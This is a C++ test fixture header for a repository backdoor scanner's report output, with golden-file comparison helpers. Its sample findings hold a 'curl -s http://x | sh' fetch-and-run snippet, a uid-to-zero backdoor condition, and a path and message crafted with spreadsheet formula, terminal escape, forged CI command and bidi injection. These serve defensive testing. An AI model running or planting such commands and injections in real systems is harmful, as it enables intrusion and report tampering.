#pragma once
// A hand-built ScanResult shared by the report tests, and golden-file comparison.
//
// Golden files live in tests/reports/golden/. To regenerate them after an intended format
// change, run the tests with PROVSCAN_UPDATE_GOLDEN=1 (e.g.
// `PROVSCAN_UPDATE_GOLDEN=1 ./test_reports`), then review `git diff tests/reports/golden`.
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <sstream>
#include <string>

#include <doctest/doctest.h>

#include "scanner/result.h"

namespace provscan::report::testing {

inline constexpr const char* kCommitA = "1111111111111111111111111111111111111111";
inline constexpr const char* kCommitB = "2a2b2c2d2e2f30313233343536373839404142ab";
inline constexpr const char* kCommitC = "cccccccccccccccccccccccccccccccccccccccc";

// A path an attacker could commit: a spreadsheet formula, ESC/BEL sequences that would set the
// terminal title and clear the screen, a newline followed by a forged workflow command, GitHub
// property separators, a percent escape, and invalid UTF-8 (0xff, and 0xc3 before '(').
inline const std::string kHostilePath =
    "=HYPERLINK(\"http://x\")/\x1b]0;pwned\x07\x1b[2J\n::error file=a::forged,%0A\xff\xc3(.sh";
// A message with a bidi override (U+202E), a C1 CSI (U+009B), HTML and Markdown syntax.
inline const std::string kHostileMessage =
    "Download piped into a shell \xe2\x80\xae<img src=x>|`code`\xc2\x9b" "31m";

inline scan::ScanResult sample_result() {
  scan::ScanResult r;
  r.tool_version = "0.1.0";
  r.repository = "/srv/repos/demo";
  r.range = "v1.0..main";
  r.rules_sha256 = "aa11";
  r.roster_sha256 = "bb22";
  r.policy_sha256 = "";  // no policy: null in JSON
  r.commits = 12;
  r.contributions = 40;

  scan::Finding uid;
  uid.rule_id = "c.backdoor.uid-assignment-in-condition";
  uid.engine = "clang";
  uid.severity = Severity::Critical;
  uid.message = "Assignment to a uid/gid field inside a condition";
  uid.commit = kCommitA;
  uid.path = "src/auth.c";
  uid.line = 42;
  uid.end_line = 43;
  uid.snippet = "if ((cred->uid = 0))";
  uid.author = {"p-0001", "Alice Example <alice@corp.example>"};
  uid.committer = {"p-0001", "Alice Example <alice@corp.example>"};
  uid.fingerprint = "fp-uid-0001";
  uid.cwe = "CWE-506";
  uid.references = {"https://cwe.mitre.org/data/definitions/506.html"};

  scan::Finding fetch;
  fetch.rule_id = "sh.fetch-pipe-to-shell";
  fetch.engine = "signature";
  fetch.severity = Severity::High;
  fetch.message = kHostileMessage;
  fetch.commit = kCommitB;
  fetch.path = kHostilePath;
  fetch.line = 7;
  fetch.end_line = 7;
  fetch.snippet = "curl -s http://x | sh";
  fetch.author = {std::nullopt, "Mallory <mallory@evil.example>"};
  fetch.committer = {std::nullopt, "-Mallory\r <mallory@evil.example>"};
  fetch.fingerprint = "fp-fetch-0002";

  scan::Finding relay;
  relay.rule_id = "policy.relayed-from-disallowed";
  relay.engine = "policy";
  relay.severity = Severity::Medium;
  relay.message = "Escort relayed a change from a person the policy does not allow here";
  relay.commit = kCommitC;
  relay.path = "deploy/main.tf";
  relay.line = 0;
  relay.author = {"p-0003", "Eve Escort <eve@corp.example>"};
  relay.committer = {"p-0003", "Eve Escort <eve@corp.example>"};
  relay.relayed_for = scan::PersonRef{"p-0002", "Bob Remote <bob@corp.example>"};
  relay.fingerprint = "fp-relay-0003";

  r.findings = {uid, fetch, relay};

  r.contributors = {
      {"p-0001", "Alice Example", 5, 120, 100, 1},
      {"p-0002", "Bob Remote", 1, 10, 10, 0},
      {"p-0003", "Eve Escort", 2, 20, 15, 1},
      {std::nullopt, "Mallory <mallory@evil.example>", 1, 3, 3, 1},
  };

  Skipped big;
  big.kind = "blob-too-large";
  big.commit = kCommitB;
  big.path = "assets/big\x1b[1m.bin";
  big.object = "3333333333333333333333333333333333333333";
  big.reason = "blob is 300 MiB, limit 100 MiB";
  big.incomplete = true;
  Skipped grammar;
  grammar.kind = "no-grammar";
  grammar.commit = kCommitC;
  grammar.path = "tools/gen.zig";
  grammar.reason = "no grammar for zig; signatures still ran";
  grammar.incomplete = false;
  r.skipped = {big, grammar};

  r.rules = {
      {"c.backdoor.uid-assignment-in-condition", "clang", Severity::Critical,
       "Assignment to a uid/gid field inside a condition", "CWE-506",
       {"https://cwe.mitre.org/data/definitions/506.html"}},
      {"sh.fetch-pipe-to-shell", "signature", Severity::High, "Download piped straight into a shell",
       "", {}},
  };
  r.findings_by_engine = {{"clang", 1}, {"policy", 1}, {"signature", 1}};
  return r;
}

inline std::string golden_path(const std::string& name) {
  return std::string(PROVSCAN_SOURCE_DIR) + "/tests/reports/golden/" + name;
}

inline std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

// Compares `actual` with golden/<name> byte for byte; with PROVSCAN_UPDATE_GOLDEN=1 it rewrites
// the golden file instead.
inline void check_golden(const std::string& name, const std::string& actual) {
  const std::string path = golden_path(name);
  if (const char* update = std::getenv("PROVSCAN_UPDATE_GOLDEN"); update && *update == '1') {
    std::ofstream(path, std::ios::binary | std::ios::trunc) << actual;
    MESSAGE("updated " << path);
    return;
  }
  const std::string expected = read_file(path);
  INFO("golden file: " << path << " (regenerate with PROVSCAN_UPDATE_GOLDEN=1)");
  CHECK(actual == expected);
}

}  // namespace provscan::report::testing
